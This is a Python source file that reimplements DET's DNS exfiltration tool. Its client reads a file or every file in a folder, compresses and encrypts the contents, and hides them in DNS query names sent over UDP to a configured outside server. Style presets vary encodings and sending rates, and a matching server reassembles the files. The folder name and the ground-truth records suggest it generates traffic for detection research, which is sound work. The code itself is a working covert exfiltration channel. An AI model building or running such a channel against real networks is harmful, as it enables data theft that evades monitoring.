"""DET's DNS exfiltration channel in Python 3: client (-f/-d) and authoritative server (-L).

The client hides files in DNS query names; the server answers every query over real UDP,
reassembles each file, checks its MD5 and writes it under a sanitised name.

    python data_generating_codes/det.py -c data_generating_codes/config-sample.json -L --out rx
    python data_generating_codes/det.py -c data_generating_codes/config-sample.json -f report.txt
    python data_generating_codes/det.py -c config.json -d data_generating_codes/ExfiltrationData
    python data_generating_codes/det.py -c config.json -L --port 0 --max-seconds 60 \
        --exit-after-files 3            # tests: ephemeral port (printed), stops by itself
    python data_generating_codes/det.py -c config.json -f report.txt --style base32-txt --no-sleep

Wire format: DESIGN.md section 2 (REGISTER / chunks / DONE, zlib, AES-256-CBC, hex of hex, pieces
of `66 - len(domain) - len(jobid)` characters, a shorter name ends a message). When a message's
encoded length is an exact multiple of the piece size, DET sends no short name and the server glues
the next message on; we send the bare terminator `<jobid>.<domain>` instead (DET's server decodes it
as an empty piece, so it stays compatible). Issue 6 styles (encodings, layouts, query types,
downstream answers, rates) are presets in `det_styles.STYLES`, selected with `--style`.
"""

from __future__ import annotations

import hashlib
import logging
import os
import random
import select
import signal
import socket
import sys
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass, replace
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

# ---------------------------------------------------------------------------
# command line (-c/-f/-d/-L are DET's short flags, mapped onto these)

CONFIG = "data_generating_codes/config-sample.json"  # DET-style JSON config (-c)
FILE = ""  # client: file to exfiltrate (-f)
FOLDER = ""  # client: exfiltrate every file in this folder (-d)
LISTEN = False  # run the server instead of the client (-L)
STYLE = ""  # exfiltration style preset applied on top of the config ('' = config as is)
TARGET = ""  # override the config's server address ('' = keep)
PORT = -1  # override the config's port (-1 = keep; server: 0 = ephemeral, printed)
OUT = ""  # server: output folder ('' = config output_dir)
MAX_SECONDS = 0.0  # server: stop after this many seconds (0 = until Ctrl-C / SIGTERM)
EXIT_AFTER_FILES = 0  # server: stop once this many files are written (0 = never)
NO_SLEEP = False  # client: send as fast as replies come (ignore the config's sleeps)
SEED = -1  # client: seed for job ids, chunk sizes, IVs and query ids (-1 = random)
VERBOSE = False  # log every query and message

# ---------------------------------------------------------------------------

from data_generating_codes.det_codec import plan_queries, schedule  # noqa: E402
from data_generating_codes.det_config import DetConfig, load_config, style_config  # noqa: E402
from data_generating_codes.det_server import DetServer  # noqa: E402
from data_generating_codes.det_styles import STYLES  # noqa: E402
from exfil.cli import UserError, configure, format_config, run  # noqa: E402
from exfil.dnsmsg import pack_query, qtype_number  # noqa: E402

log = logging.getLogger("det")


# ---------------------------------------------------------------------------
# client


@dataclass
class SendResult:
    """What one exfiltration did, for logs and ground truth."""

    file: str
    job_id: str
    md5: str
    bytes: int
    messages: int
    queries: int
    retransmits: int = 0
    unanswered: int = 0


def _exchange(sock: socket.socket, address: tuple, packet: bytes, cfg: DetConfig) -> int:
    """Send one query and wait for its answer (as DET's dnslib call did); return retransmits."""
    qid = packet[:2]
    for attempt in range(cfg.retries + 1):
        sock.sendto(packet, address)
        deadline = time.monotonic() + cfg.reply_timeout
        while (left := deadline - time.monotonic()) > 0:
            ready, _, _ = select.select([sock], [], [], left)
            if not ready:
                break
            try:
                reply, _ = sock.recvfrom(65535)
            except OSError:  # an ICMP error on a connected socket: treat as no answer
                break
            if reply[:2] == qid:
                return attempt
    return -1


def send_file(
    path: str | os.PathLike,
    cfg: DetConfig,
    *,
    rng: random.Random | None = None,
    sleep: Callable[[float], object] = time.sleep,
    sock: socket.socket | None = None,
) -> SendResult:
    """Exfiltrate one file to cfg.target:cfg.port over real UDP, pacing by `schedule`."""
    path = Path(path)
    if not path.is_file():
        raise UserError(f"no such file: {path}")
    data = path.read_bytes()
    rng = rng or random.Random(int.from_bytes(os.urandom(8), "big"))
    job_id, messages = plan_queries(data, path.name, cfg, rng)
    times = schedule(messages, cfg, rng)
    address = (cfg.target, cfg.port)
    own = sock is None
    if own:
        family = socket.AF_INET6 if ":" in cfg.target else socket.AF_INET
        sock = socket.socket(family, socket.SOCK_DGRAM)
    result = SendResult(path.name, job_id, _md5(data), len(data), len(messages), 0)
    previous, silent = 0.0, 0
    try:
        for message, offsets in zip(messages, times, strict=True):
            for (qname, qtype), offset in zip(message, offsets, strict=True):
                if offset > previous:
                    sleep(offset - previous)
                previous = offset
                packet = pack_query(rng.getrandbits(16), qname, qtype_number(qtype))
                retries = _exchange(sock, address, packet, cfg)
                result.queries += 1
                result.retransmits += retries if retries >= 0 else cfg.retries
                result.unanswered += retries < 0
                silent = silent + 1 if retries < 0 else 0
                if silent >= cfg.give_up:
                    raise UserError(
                        f"server {cfg.target}:{cfg.port} stopped answering "
                        f"({silent} queries in a row); {path.name} not sent"
                    )
    finally:
        if own:
            sock.close()
    return result


def _md5(data: bytes) -> str:
    return hashlib.md5(data).hexdigest()


# ---------------------------------------------------------------------------
# main

_SHORT_FLAGS = {"-c": "--config", "-f": "--file", "-d": "--folder", "-L": "--listen"}


def _serve(cfg: DetConfig) -> int:
    server = DetServer(cfg, OUT or cfg.output_dir)
    stop = server.stop
    signal.signal(signal.SIGTERM, lambda *_: stop())
    # Ctrl-C stops it the way SIGTERM does (also where a parent made its children ignore it)
    signal.signal(signal.SIGINT, lambda *_: stop())
    host, port = server.address[:2]
    print(f"listening on {host}:{port} for *.{cfg.domain} -> {server.out_dir}", flush=True)
    try:
        server.serve(max_seconds=MAX_SECONDS or None, exit_after_files=EXIT_AFTER_FILES or None)
    except KeyboardInterrupt:
        pass
    finally:
        server.close()
    for report in server.reports:
        print(
            f"{report['status']:<10} {report['job_id']} {report.get('file', '')} "
            f"{report.get('reason', '')} {report.get('path', '')}".rstrip(),
            flush=True,
        )
    print(f"summary: {dict(server.counts)} drops: {dict(server.drops)}", flush=True)
    return 0


def _inputs() -> list[Path]:
    """The files to send, checked before anything else happens."""
    if FOLDER:
        folder = Path(FOLDER)
        if not folder.is_dir():
            raise UserError(f"no such folder: {folder}")
        paths = sorted(p for p in folder.iterdir() if p.is_file() and not p.name.startswith("."))
        if not paths:
            raise UserError(f"no files in folder: {folder}")
        return paths
    if not Path(FILE).is_file():
        raise UserError(f"no such file: {FILE}")
    return [Path(FILE)]


def _send(cfg: DetConfig, paths: list[Path]) -> int:
    if NO_SLEEP:
        cfg = replace(cfg, min_sleep=0.0, max_sleep=0.0, query_gap=0.0)
    seed = SEED if SEED >= 0 else int.from_bytes(os.urandom(4), "big")
    print(f"seed {seed}", flush=True)
    rng = random.Random(seed)
    for index, path in enumerate(paths):
        if index:
            time.sleep(rng.uniform(cfg.min_sleep, cfg.max_sleep))
        result = send_file(path, cfg, rng=rng)
        print(
            f"sent {result.file} job {result.job_id} md5 {result.md5} {result.bytes} bytes "
            f"in {result.queries} queries ({result.messages} messages, "
            f"{result.unanswered} unanswered)",
            flush=True,
        )
    return 0


def main() -> int:
    argv = [_SHORT_FLAGS.get(arg, arg) for arg in sys.argv[1:]]
    config = configure(globals(), argv, choices={"STYLE": ["", *STYLES]})
    logging.basicConfig(
        level=logging.DEBUG if VERBOSE else logging.INFO,
        format="%(asctime)s det %(levelname)s %(message)s",
        stream=sys.stderr,
    )
    cfg = load_config(CONFIG)
    if STYLE:
        cfg = style_config(STYLE, cfg)
    if TARGET:
        cfg = replace(cfg, target=TARGET)
    if PORT >= 0:
        cfg = replace(cfg, port=PORT)
    if not (LISTEN or FILE or FOLDER):
        raise UserError("nothing to do: give -f FILE, -d FOLDER or -L")
    paths = [] if LISTEN else _inputs()
    channel = {k: v for k, v in asdict(cfg).items() if k != "passphrase"}
    log.info("flags\n%s\nchannel\n%s", format_config(config), format_config(channel))
    return _serve(cfg) if LISTEN else _send(cfg, paths)


if __name__ == "__main__":
    run(main)
